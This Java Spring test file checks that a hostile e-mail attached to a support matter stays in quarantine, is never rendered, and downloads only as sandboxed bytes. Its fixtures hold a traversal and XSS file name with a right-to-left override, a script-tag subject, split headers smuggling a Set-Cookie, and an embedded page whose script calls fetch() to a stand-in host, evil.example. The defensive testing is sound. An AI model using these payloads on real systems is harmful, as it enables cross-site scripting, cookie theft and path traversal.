package noroshi.desk.web;

import static noroshi.testing.Cast.*;
import static noroshi.testing.SignedIn.as;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import noroshi.desk.ConsultationDesk;
import noroshi.desk.Matter;
import noroshi.desk.Matters;
import noroshi.shared.Actor;
import noroshi.testing.LoopbackScanner;
import noroshi.testing.WholeHouse;
import noroshi.topic.Files;
import noroshi.topic.TopicFile;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.annotation.Import;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;

/** Bad input: a hostile e-mail attached to a matter is a file in quarantine like any other, and is never rendered. */
@WholeHouse
@Import(Matters.class)
class HostileMailTests {
    private static final String NAME = "..\\..\\../etc/<img src=x onerror=alert(1)>\u202Egnp.eml";
    private static final String HEADLINE = "至急 <script>alert('subject')</script>";

    @Autowired
    MockMvcTester mvc;

    @Autowired
    ConsultationDesk desk;

    @Autowired
    Files files;

    @Autowired
    Matters matters;

    /** A mail in a mail, with a page that runs, headers that are split, and names that climb. */
    private static byte[] mail(String word) {
        var page = Base64.getMimeEncoder()
                .encodeToString(("<html><script>fetch('//evil.example/" + word + "')</script></html>")
                        .getBytes(StandardCharsets.UTF_8));
        return """
                From: "=?utf-8?B?PHNjcmlwdD4=?=" <boss@bank.example>\r
                To: mika@member.example\r
                Subject: %s\r
                X-Split: one\r
                \tSet-Cookie: session=stolen\r
                Content-Type: multipart/mixed; boundary="b"\r
                \r
                --b\r
                Content-Type: message/rfc822; name="../../../inner.eml"\r
                Content-Disposition: attachment; filename="../../../inner.eml"\r
                \r
                From: inner@evil.example\r
                Content-Type: multipart/alternative; boundary="c"\r
                \r
                --c\r
                Content-Type: text/html; charset=utf-8\r
                Content-Transfer-Encoding: base64\r
                Content-Disposition: attachment; filename="con.html\u202E"\r
                \r
                %s\r
                --c--\r
                --b\r
                Content-Type: application/x-msdownload; name="a.exe"\r
                \r
                %s\r
                --b--\r
                """.formatted(HEADLINE, page, word).getBytes(StandardCharsets.UTF_8);
    }

    private Matter matter() {
        return matters.reported("不審なメールが届いた", Optional.of(matters.system(AGENCY)), false, MIKA);
    }

    private TopicFile attached(Matter matter, String word) {
        assertThat(mvc.post()
                        .uri(matter.path() + "/comments")
                        .multipart()
                        .file(new MockMultipartFile("files", NAME, "message/rfc822", mail(word)))
                        .param("body", "転送します")
                        .with(as(MIKA)))
                .hasStatus(303);
        return files.of(matter.topic(), MIKA).getLast();
    }

    private String text(String path, Actor actor) {
        return new String(
                mvc.get().uri(path).with(as(actor)).exchange().getResponse().getContentAsByteArray(),
                StandardCharsets.UTF_8);
    }

    @Test
    void unscannedItStaysInQuarantineForEverybody() {
        var matter = matter();
        var file = attached(matter, LoopbackScanner.FAILS);
        assertThat(file.name()).endsWith(".eml").doesNotContain("<", ">", "/", "\\", "..", "\u202E");
        for (var reader : List.of(MIKA, DANA, JUN)) {
            assertThat(text(matter.path(), reader))
                    .contains("/files/" + file.id(), "未検査")
                    .doesNotContain("<img src=x", HEADLINE, "alert('subject')", "evil.example");
            assertThat(mvc.get().uri("/files/" + file.id()).with(as(reader)))
                    .hasRedirectedUrl("/files/" + file.id() + "/quarantine");
            assertThat(text("/files/" + file.id() + "/quarantine", reader))
                    .doesNotContain("<img src=x", HEADLINE, "evil.example");
        }
        var sample =
                mvc.post().uri("/files/" + file.id() + "/sample").with(as(JUN)).exchange();
        assertThat(leaves(sample)).startsWith("PK").doesNotContain("boss@bank.example");
        for (var path : List.of("", "/quarantine")) {
            assertThat(mvc.get().uri("/files/" + file.id() + path).with(as(OTTO)))
                    .hasStatus(404);
        }
    }

    @Test
    void whatTheScannerFoundInItGoesToAnalystsOnly() {
        var matter = matter();
        var file = attached(matter, LoopbackScanner.MALWARE);
        assertThat(text("/files/" + file.id() + "/quarantine", MINA)).contains(LoopbackScanner.SIGNATURE);
        assertThat(mvc.post().uri("/files/" + file.id() + "/sample").with(as(MINA)))
                .hasStatus(403);
        assertThat(mvc.post().uri("/files/" + file.id() + "/sample").with(as(JUN)))
                .hasStatusOk();
    }

    /** Called clean, it leaves as bytes to be saved, byte for byte; no browser is told that it is a mail. */
    @Test
    void calledCleanItIsSavedAndNotShown() {
        var matter = matter();
        var word = "harmless" + UUID.randomUUID();
        var file = attached(matter, word);
        var answer = mvc.get().uri("/files/" + file.id()).with(as(JUN)).exchange();
        leaves(answer);
        assertThat(answer.getResponse().getContentAsByteArray()).isEqualTo(mail(word));
        assertThat(text(matter.path(), JUN)).doesNotContain(word, HEADLINE);
        assertThat(text("/search?q=" + word, JUN)).doesNotContain(matter.title());
    }

    private static String leaves(MvcTestResult answer) {
        assertThat(answer).hasStatusOk();
        var response = answer.getResponse();
        assertThat(response.getContentType()).isEqualTo("application/octet-stream");
        assertThat(response.getHeader("Content-Disposition"))
                .startsWith("attachment")
                .doesNotContain("\r", "\n", "<", "\u202E");
        assertThat(response.getHeader("Content-Security-Policy")).contains("default-src 'none'", "sandbox");
        assertThat(response.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(response.getHeader("Set-Cookie")).isNull();
        return new String(response.getContentAsByteArray(), StandardCharsets.ISO_8859_1);
    }
}
